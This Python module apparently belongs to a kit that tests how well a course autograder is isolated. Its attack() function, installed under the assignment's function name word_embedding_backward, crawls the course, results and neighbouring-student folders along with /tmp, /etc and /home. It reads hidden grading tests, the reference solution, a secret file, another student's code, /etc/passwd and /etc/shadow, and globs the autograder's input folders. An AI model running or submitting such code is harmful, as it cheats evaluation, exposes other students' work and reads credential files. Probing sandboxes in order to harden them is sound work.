"""Hope: the hidden tests, the reference, the secret and other students' work can be opened by their paths."""

import glob
import os

from a3 import kit

GOAL = "read"
ROUTE = "files"
SCORE = 25


def attack():
    """Open everything by every name."""
    for root in (kit.COURSE, kit.RESULTS, kit.NEIGHBOUR, "..", "/proc/self/root" + kit.COURSE, "/tmp", "/etc", "/home", "/var", "/dev"):
        for folder, _, names in os.walk(root):
            if folder.startswith(("/usr", "/proc", "/sys", "/lib", "/root", "/opt")) and not folder.startswith(kit.COURSE):
                continue
            for name in names[:200]:
                if name.endswith((".py", ".json", ".jsonl", ".csv", ".txt", ".secret", ".toml")):
                    kit.attempt(kit.read, os.path.join(folder, name))
    for path in (kit.SECRET, f"{kit.COURSE}/grading_tests/rnn/test_rnn_layers.py", f"{kit.COURSE}/reference/rnn.py",
                 f"{kit.COURSE}/source/assignment3/a3/rnn_layers.py", f"{kit.RESULTS}/planted.txt",
                 f"{kit.NEIGHBOUR}/a3/rnn_layers.py", "/etc/passwd", "/etc/shadow"):
        kit.attempt(kit.read, path)
        kit.attempt(os.listdir, os.path.dirname(path))
        kit.attempt(os.readlink, path)
    for path in glob.glob("/tmp/autograder-in-*/**", recursive=True):
        kit.attempt(kit.read, path)


word_embedding_backward = kit.mount(attack, again=False)
